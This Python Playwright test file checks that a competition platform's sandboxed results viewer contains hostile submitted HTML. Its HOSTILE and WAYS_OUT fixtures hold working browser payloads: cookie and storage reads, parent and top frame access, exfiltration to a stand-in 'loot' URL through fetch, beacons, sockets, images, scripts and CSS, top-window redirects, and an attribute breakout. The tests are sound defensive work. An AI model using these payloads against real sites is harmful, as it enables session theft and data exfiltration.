"""Detailed results in a real browser: what is harmless shows, and what is hostile gets at nothing."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator

import pytest
import stand_in as made
from browsing import keep_screenshot
from playwright.sync_api import Browser, Frame, Page, expect

from podium.platform.lifecycle import SubmissionStatus

pytestmark = pytest.mark.browser

HARMLESS = """<!doctype html><html><head><style>h1 { color: rgb(0, 128, 0) }</style></head><body>
<h1>Named rightly: 9 of 10</h1><canvas id=plot width=200 height=60></canvas>
<img id=dot src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7">
<p id=said></p><script>
const pen = document.getElementById('plot').getContext('2d'); pen.fillRect(0, 0, 150, 40);
document.getElementById('said').textContent = 'drawn by ' + eval('"a script"');
</script></body></html>"""

# Every try says what came of it; `reached` where it got through.
TRIES = {
    "cookie": "document.cookie + 'reached'",
    "setCookie": "(document.cookie = 'a=b') && 'reached'",
    "storage": "localStorage.length + 'reached'",
    "session": "sessionStorage.length + 'reached'",
    "database": "indexedDB.open('x') && 'reached'",
    "parentDocument": "parent.document.body.innerHTML + 'reached'",
    "topDocument": "top.document.cookie + 'reached'",
    "topAddress": "top.location.href + 'reached'",
    "parentFrame": "parent.frameElement.ownerDocument + 'reached'",
    "opener": "window.opener ? 'reached' : 'none'",
    "goTop": "(top.location = loot + '?top') && 'tried'",
    "goParent": "(parent.location = loot + '?parent') && 'tried'",
    "popup": "window.open(loot + '?popup') ? 'reached' : 'none'",
    "ask": "confirm('Your password?') ? 'reached' : 'none'",
    "request": "((r) => { r.open('GET', loot + '?xhr', false); r.send(); return 'reached' })(new XMLHttpRequest())",
    "beacon": "navigator.sendBeacon(loot + '?beacon', 'x') && 'tried'",
    "socket": "new WebSocket(loot.replace('http', 'ws') + '?socket') && 'tried'",
    "events": "new EventSource(loot + '?events') && 'tried'",
    "worker": "new Worker(loot + '?worker') && 'tried'",
    "image": "(new Image().src = loot + '?image') && 'tried'",
    "script": "add('script', {src: loot + '?script'})",
    "style": "add('style', {textContent: `@import \"${loot}?import\"; body { background: url(${loot}?url) }`})",
    "font": "add('style', {textContent: `@font-face { font-family: x; src: url(${loot}?font) } p { font-family: x }`})",
    "frame": "add('iframe', {src: loot + '?frame'})",
    "object": "add('object', {data: loot + '?object'})",
    "base": "add('base', {href: loot + '/'}) && add('script', {src: 'relative'})",
    "prefetch": "add('link', {rel: 'prefetch', href: loot + '?prefetch'})",
}
HOSTILE = (
    "<p id=report></p><script>const loot = 'LOOT', report = {};"
    "const add = (tag, values) => document.body.append(Object.assign(document.createElement(tag), values)) || 'tried';"
    "const tries = {"
    + ", ".join(f"{name}: () => {what}" for name, what in TRIES.items())
    + "};for (const [name, attempt] of Object.entries(tries)) {"
    "  try { report[name] = String(attempt()); } catch (error) { report[name] = error.name; }"
    "}"
    "fetch(loot + '?fetch', {credentials: 'include'}).then(() => 'reached', error => error.name).then(said => {"
    "  report.fetch = said; document.getElementById('report').textContent = JSON.stringify(report);"
    "});</script>"
)

# Each of these leaves the page that tries it, so each has a page of its own.
WAYS_OUT = {
    "refresh": '<meta http-equiv="refresh" content="0;url=LOOT?refresh">',
    "address": "<script>location = 'LOOT?address'</script>",
    "replace": "<script>location.replace('LOOT?replace')</script>",
    "link": "<a href='LOOT?link'>x</a><script>document.links[0].click()</script>",
    "form": "<form method=post action='LOOT?form'></form><script>document.forms[0].submit()</script>",
    "top-form": "<form target=_top action='LOOT?form'></form><script>document.forms[0].submit()</script>",
    "top-link": "<a target=_top href='LOOT?link'>x</a><script>document.links[0].click()</script>",
    "blank-link": "<a target=_blank href='LOOT?blank'>x</a><script>document.links[0].click()</script>",
    "out-of-the-attribute": "\"></iframe><script>top.location = 'LOOT?attribute'</script>",
}


@pytest.fixture
def loot(stand_in: made.StandIn) -> str:
    """Where a hostile page would send what it found: the one address that both it and the test can see."""
    return f"{stand_in.address}/stolen"


@pytest.fixture
def visit(browser: Browser, site: str) -> Iterator[Callable[[str], tuple[Page, list[str]]]]:
    """Opens a page, with what its console says; unlike for other pages, complaints there are what is hoped for."""
    contexts = []

    def visit(path: str) -> tuple[Page, list[str]]:
        context = browser.new_context(viewport={"width": 1280, "height": 1000})
        contexts.append(context)
        context.add_cookies([{"name": "secret", "value": "cookie", "url": site}])
        page = context.new_page()
        page.set_default_timeout(60_000)
        said: list[str] = []
        page.on("console", lambda message: said.append(message.text))
        page.goto(f"{site}{path}")
        return page, said

    yield visit
    for context in contexts:
        context.close()


def _result_of(stand_in: made.StandIn, number: int, content: str, **more: object) -> made.SubmissionRecord:
    submission = made.make_submission(SubmissionStatus.FINISHED, number)
    stand_in.add_result(submission, content, **more)
    return submission


def _inner(page: Page) -> Frame:
    """The frame of the untrusted page: the one inside ours, inside Streamlit's."""
    outer = page.locator("iframe[srcdoc]").first
    expect(outer).to_be_visible()
    inner = outer.content_frame.locator("iframe").element_handle().content_frame()
    assert inner is not None
    return inner


def test_a_harmless_page_shows_with_its_style_and_its_script(
    stand_in: made.StandIn, visit: Callable[[str], tuple[Page, list[str]]]
):
    submission = _result_of(stand_in, 901, HARMLESS)
    page, said = visit(f"/results?submission={submission.id}")
    frame = page.locator("iframe[srcdoc]").content_frame.locator("iframe").content_frame
    expect(frame.locator("h1")).to_have_text("Named rightly: 9 of 10")
    expect(frame.locator("h1")).to_have_css("color", "rgb(0, 128, 0)")
    expect(frame.locator("#said")).to_have_text("drawn by a script")
    assert frame.locator("#dot").evaluate("image => image.naturalWidth") == 1
    expect(page.get_by_text("Submission 901 by lin")).to_be_visible()
    assert _inner(page).evaluate("document.compatMode") == "CSS1Compat"
    assert _inner(page).evaluate("self.origin") == "null"
    assert not [line for line in said if "Content Security Policy" in line]
    keep_screenshot(page, "detailed-results")


def test_a_hostile_page_gets_at_nothing(
    stand_in: made.StandIn, loot: str, visit: Callable[[str], tuple[Page, list[str]]]
):
    submission = _result_of(stand_in, 902, HOSTILE.replace("LOOT", loot))
    address = f"/results?submission={submission.id}"
    page, said = visit(address)
    here = page.url
    frame = page.locator("iframe[srcdoc]").content_frame.locator("iframe").content_frame
    expect(frame.locator("#report")).not_to_be_empty()
    report = json.loads(frame.locator("#report").inner_text())
    reached = {name: what for name, what in report.items() if "reached" in what}
    assert reached == {}
    assert report["topDocument"] == report["parentDocument"] == report["cookie"] == "SecurityError"
    assert len(report) == len(TRIES) + 1
    assert [line for line in said if "Content Security Policy" in line]
    assert page.url == here
    assert len(page.context.pages) == 1
    assert [cookie["value"] for cookie in page.context.cookies() if cookie["name"] in {"secret", "a"}] == ["cookie"]
    expect(page.get_by_text("Submission 902 by lin")).to_be_visible()
    assert not [path for path in stand_in.seen if "stolen" in path]


@pytest.mark.parametrize("way", WAYS_OUT)
def test_a_page_leads_nowhere(
    way: str, stand_in: made.StandIn, loot: str, visit: Callable[[str], tuple[Page, list[str]]]
):
    number = 910 + list(WAYS_OUT).index(way)
    submission = _result_of(stand_in, number, f"<p id=begun></p>{WAYS_OUT[way].replace('LOOT', loot)}")
    page, said = visit(f"/results?submission={submission.id}")
    here = page.url
    outer = page.locator("iframe[srcdoc]").content_frame
    expect(outer.locator("iframe")).to_be_attached()
    # The browser says that it kept the page from what it tried; only then is it known that it did try.
    signs = ("Content Security Policy", "sandboxed", "Unsafe attempt", "Blocked")
    while not [line for line in said if any(sign in line for sign in signs)]:
        page.wait_for_timeout(50)
    expect(page.get_by_text(f"Submission {number} by lin")).to_be_visible()
    assert page.url == here
    assert len(page.context.pages) == 1
    assert not [path for path in stand_in.seen if "stolen" in path]
    assert outer.locator("iframe").count() == 1


def test_a_page_that_is_being_written_is_followed(
    stand_in: made.StandIn, visit: Callable[[str], tuple[Page, list[str]]]
):
    submission = _result_of(stand_in, 930, "<p id=at>epoch 1", is_live=True)
    page, _ = visit(f"/results?submission={submission.id}")
    frame = page.locator("iframe[srcdoc]").content_frame.locator("iframe").content_frame
    expect(frame.locator("#at")).to_have_text("epoch 1")
    expect(page.get_by_text("still writing this")).to_be_visible()
    stand_in.add_result(submission, "<p id=at>epoch 2", version="2", is_live=True)
    expect(frame.locator("#at")).to_have_text("epoch 2")
    stand_in.add_result(submission, "<p id=at>done", version="3")
    expect(frame.locator("#at")).to_have_text("done")
    expect(page.get_by_text("still writing this")).to_have_count(0)


def test_the_leaderboard_leads_to_what_its_organizer_shows(
    stand_in: made.StandIn, visit: Callable[[str], tuple[Page, list[str]]]
):
    submission = _result_of(stand_in, 940, HARMLESS)
    shown = made.replace(made.make_row(1, "lin", 0.9, 0.1), submission_id=submission.id, has_detailed_results=True)
    stand_in.add(made.make_competition("linked", "Linked"), made.make_board(shown, made.make_row(2, "ada", 0.8, 0.2)))
    page, _ = visit("/leaderboard?competition=linked")
    expect(page.locator(".podium-board td.results a")).to_have_count(1)
    keep_screenshot(page, "leaderboard-with-results")
    with page.context.expect_page() as opened:
        page.get_by_role("link", name="Details of submission").click()
    expect(opened.value.get_by_text("Submission 940 by lin")).to_be_visible(timeout=60_000)
    stand_in.competitions.pop("linked")
